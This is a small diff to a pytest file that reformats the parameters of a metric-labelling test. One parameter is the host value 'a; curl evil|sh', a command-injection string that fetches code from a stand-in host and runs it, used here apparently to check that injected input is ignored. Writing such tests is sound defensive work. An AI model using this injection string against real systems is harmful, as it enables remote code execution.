@@ -44,8 +44,7 @@ def test_an_app_has_its_own_metrics(name: str) -> None:
 
 @pytest.mark.parametrize(("job", "host", "instance"), [
     ("node", "live", "live"), ("requests", "live", "live"), ("app", "live", "web-1"), ("redis", "live", "web-1"),
-    ("node", "", "web-1"),
-    ("node", "a; curl evil|sh", "web-1"),
+    ("node", "", "web-1"), ("node", "a; curl evil|sh", "web-1"),
 ])  # fmt: skip
 def test_only_the_server_names_itself(job: str, host: str, instance: str) -> None:
     assert taken(job, "a_total", selvedge_host=host) == {"__name__": "a_total", "job": job, "instance": instance}
